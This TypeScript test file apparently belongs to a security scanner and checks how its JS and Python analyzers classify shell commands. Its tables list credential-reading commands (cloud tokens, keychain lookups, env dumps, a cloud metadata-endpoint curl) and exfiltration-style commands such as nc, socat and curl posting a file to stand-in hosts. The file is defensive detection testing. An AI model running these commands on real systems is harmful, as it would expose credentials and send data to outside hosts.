// What a shell command means to each front-end, read through the one interface to
// signatures/commands.yaml (src/analyzers/common/shell-command.ts). The rows where JS and
// Python differ are today's readings, kept as they were when the tables became data
// (entries marked only: js / only: python); unifying them is a behaviour change of its own.
import { describe, expect, it } from "vitest";
import { credentialCommand, destinationOf } from "../../src/analyzers/common/shell-command.js";
import { commandDestination, parseCommandLine } from "../../src/analyzers/python/shell.js";
import { loadSignatures } from "../../src/rules/signatures.js";

const signatures = loadSignatures();
const command = (line: string) => parseCommandLine(line)[0]!;

describe("credential commands (signatures/commands.yaml credentialCommands)", () => {
  // [command line, kind the JS reading gives, kind the Python reading gives]
  const rows: [string, string | null, string | null][] = [
    ["gh auth token", "git-credentials", "git-credentials"],
    ["gh auth status --show-token", "git-credentials", "git-credentials"],
    ["git credential fill", "git-credentials", "git-credentials"],
    ["git config --get http.extraheader", "git-credentials", null],
    ["security find-generic-password -w", "keychain", "keychain"],
    ["secret-tool lookup svc x", "keychain", "keychain"],
    ["aws configure get aws_secret_access_key", "cloud-credentials", "cloud-credentials"],
    ["aws sts assume-role --role-arn x", "cloud-credentials", null],
    ["aws ecr get-login-password", null, "cloud-credentials"],
    ["gcloud auth print-access-token", "cloud-credentials", "cloud-credentials"],
    ["az account get-access-token", "cloud-credentials", "cloud-credentials"],
    ["kubectl config view --raw", null, "cloud-credentials"],
    ["npm config get //r/:_authToken", "registry-token", "registry-token"],
    ["env", "env-dump", "env-dump"],
    ["printenv HOME", null, null],
    ["curl http://169.254.169.254/latest/meta-data/iam/", "cloud-credentials", null],
    ["git status", null, null],
  ];
  it.each(rows)("%s", (line, js, python) => {
    const { program, args } = command(line);
    expect(credentialCommand(signatures.commands, "js", program, args)?.kind ?? null).toBe(js);
    expect(credentialCommand(signatures.commands, "python", program, args)?.kind ?? null).toBe(python);
  });

  it("a note names the program, and the detail is the command line", () => {
    const { program, args } = command("env");
    expect(credentialCommand(signatures.commands, "js", program, args)).toEqual({ kind: "env-dump", note: "dumps the environment with env", detail: "env" });
    const gh = command("gh auth token");
    expect(credentialCommand(signatures.commands, "python", gh.program, gh.args)?.detail).toBe("gh auth token");
  });
});

describe("destinations (signatures/commands.yaml programs.<name>.destination)", () => {
  // [command line, JS reading, Python reading]
  const rows: [string, string | null, string | null][] = [
    ["nc 203.0.113.9 9000", "203.0.113.9", "203.0.113.9"],
    ["socat - TCP:203.0.113.7:9000", "203.0.113.7", "203.0.113.7"],
    ["git push git@h.example.invalid:a/b.git", "h.example.invalid", "h.example.invalid"],
    ["gh gist create f", "api.github.com", "api.github.com"],
    ["ping -p 41 203.0.113.5", "203.0.113.5", "203.0.113.5"],
    ["sendmail a@h.example.invalid", "a@h.example.invalid", null],
    ["curl -d @f h.example.invalid", "h.example.invalid", null],
    ["wget https://h.example.invalid/x", "https://h.example.invalid/x", "https://h.example.invalid/x"],
  ];
  it.each(rows)("%s", (line, js, python) => {
    const parsed = command(line);
    expect(destinationOf(signatures.commands, parsed.program, parsed.args) ?? null).toBe(js);
    expect(commandDestination(signatures.commands, parsed) ?? null).toBe(python);
  });
});
